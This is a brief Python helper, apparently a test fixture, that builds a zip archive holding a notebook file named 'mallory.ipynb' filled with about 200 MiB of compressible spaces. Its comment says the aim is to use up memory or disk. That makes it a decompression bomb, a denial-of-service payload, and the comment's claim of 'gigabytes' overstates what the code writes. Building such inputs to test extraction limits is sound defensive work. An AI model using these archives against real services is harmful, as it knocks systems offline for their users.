# Aim: use up memory or disk with a zip that unpacks to gigabytes.
import zipfile


def make(folder):
    with zipfile.ZipFile(folder / "class.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("mallory.ipynb", "w", force_zip64=True) as file:
            for _ in range(200):
                file.write(b" " * 2**20)
